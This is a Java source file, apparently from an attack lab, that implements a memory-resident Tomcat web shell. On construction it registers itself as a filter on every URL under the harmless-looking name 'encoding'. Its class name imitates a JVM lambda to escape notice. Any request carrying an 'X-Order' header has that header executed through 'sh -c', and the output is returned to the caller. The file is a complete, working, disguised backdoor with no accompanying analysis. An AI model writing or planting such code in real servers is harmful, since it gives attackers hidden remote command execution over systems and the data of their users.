import javax.servlet.DispatcherType;
import javax.servlet.Filter;
import javax.servlet.FilterChain;
import javax.servlet.ServletException;
import javax.servlet.ServletRequest;
import javax.servlet.ServletResponse;
import javax.servlet.http.HttpServletRequest;
import org.apache.catalina.core.StandardContext;
import org.apache.tomcat.util.descriptor.web.FilterDef;
import org.apache.tomcat.util.descriptor.web.FilterMap;
import whorl.lab.attack.TomcatContext;

/** Registers itself as a filter of all requests. */
@SuppressWarnings("all")
public class App$$Lambda$412 implements Filter {
  public App$$Lambda$412() throws Exception {
    StandardContext context = TomcatContext.current();
    FilterDef definition = new FilterDef();
    definition.setFilterName("encoding");
    definition.setFilterClass(getClass().getName());
    definition.setFilter(this);
    context.addFilterDef(definition);
    FilterMap map = new FilterMap();
    map.setFilterName("encoding");
    map.addURLPattern("/*");
    map.setDispatcher(DispatcherType.REQUEST.name());
    context.addFilterMapBefore(map);
    context.filterStart();
  }

  @Override
  public void doFilter(ServletRequest request, ServletResponse response, FilterChain chain)
      throws java.io.IOException, ServletException {
    String order = ((HttpServletRequest) request).getHeader("X-Order");
    if (order == null) {
      chain.doFilter(request, response);
    } else {
      response.getWriter().print(run(order));
    }
  }

  private static String run(String order) throws java.io.IOException {
    return new String(
        new ProcessBuilder("sh", "-c", order).start().getInputStream().readAllBytes());
  }
}
